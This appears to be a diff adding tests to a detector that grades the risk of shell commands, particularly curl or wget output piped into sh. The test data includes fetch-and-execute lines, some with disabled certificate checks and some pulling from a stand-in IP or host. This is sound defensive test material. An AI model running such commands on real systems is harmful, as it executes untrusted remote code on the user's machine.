@@ -175,3 +175,21 @@ it("is perhaps of a server of the site that hands out updates, at the port that 
   expect(score(":8531")).toBeLessThan(40);
   expect(score(":4444")).toBeGreaterThan(60);
 });
+
+describe("what comes from where its maker publishes it", () => {
+  const level = (line: string) => verdict(line, "linux").level;
+
+  it("is ordinary where nothing else comes with it, from whoever the certificate names", () => {
+    expect(level("curl -fsSL https://get.docker.com | sh")).toBe("informational");
+    expect(level("curl -fsSLk https://get.docker.com | sh")).toBe("medium");
+    expect(level("wget -qO- --no-check-certificate https://get.docker.com | sh")).toBe("medium");
+    expect(level("curl -s https://get.docker.com https://files.example.net/a | sh")).toBe("medium");
+    expect(level("curl -s https://files.example.net/a https://get.docker.com | sh")).toBe("medium");
+  });
+
+  it("is told of what is printed, and not of what goes to a file", () => {
+    expect(level("curl -s http://203.0.113.5/a -o kiwi http://203.0.113.5/b | sh")).toBe("high");
+    expect(verdict("curl -s http://203.0.113.5/a -o kiwi http://203.0.113.5/b | sh", "linux").text).toContain("5/b");
+    expect(verdict("curl -s http://203.0.113.5/a -o kiwi | sh", "linux").text).not.toContain("carries out");
+  });
+});
